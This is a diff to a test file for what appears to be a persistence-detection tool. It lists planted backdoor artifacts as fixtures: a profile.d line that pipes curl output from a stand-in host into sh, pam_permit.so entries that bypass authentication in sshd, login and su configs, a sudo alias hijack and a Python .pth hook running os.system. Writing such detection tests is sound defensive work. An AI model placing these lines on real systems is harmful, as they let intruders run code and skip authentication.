@@ -60,6 +60,7 @@ PLANTED: list[tuple[str, str, F | bytes | str]] = [
     ("persistence.shell", "root/.bashrc", "alias sudo='/opt/s'\n"),
     ("persistence.shell", "etc/profile.d/z.sh", "(curl -s http://192.0.2.1/x | sh) &\n"),
     ("persistence.pam", "etc/pam.d/sshd", "auth sufficient pam_permit.so\n"),
+    ("persistence.pam", "etc/pam.d/login", "auth required pam_permit.so\n"),
     ("persistence.pam", "etc/pam.d/su", "session optional pam_exec.so /opt/x\n"),
     ("persistence.python", "usr/lib/python3/dist-packages/z.pth", "import os; os.system('x')\n"),
     ("persistence.python", "usr/local/lib/python3.11/site-packages/sitecustomize.py", "import socket\n"),
@@ -126,6 +127,10 @@ def test_nothing_changed_is_no_evidence_and_says_so(tmp_path: Path) -> None:
         {
             "root/.bashrc": "alias ls='ls --color=auto'\nexport PATH=$PATH:/opt/bin\n",
             "root/.bash_history": "ls\ncd /\n",
+        },
+        {
+            "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n"
+            "auth required pam_permit.so\n"
         },
         {"etc/passwd": ACCOUNTS + "app:x:999:999::/app:/usr/sbin/nologin\n", "etc/group": "app:x:999:\n"},
         {"tmp/data.txt": "x", "tmp/hsperfdata_root/7": bytes(64), "var/lib/app/db.sqlite": b"SQLite format 3\0"},
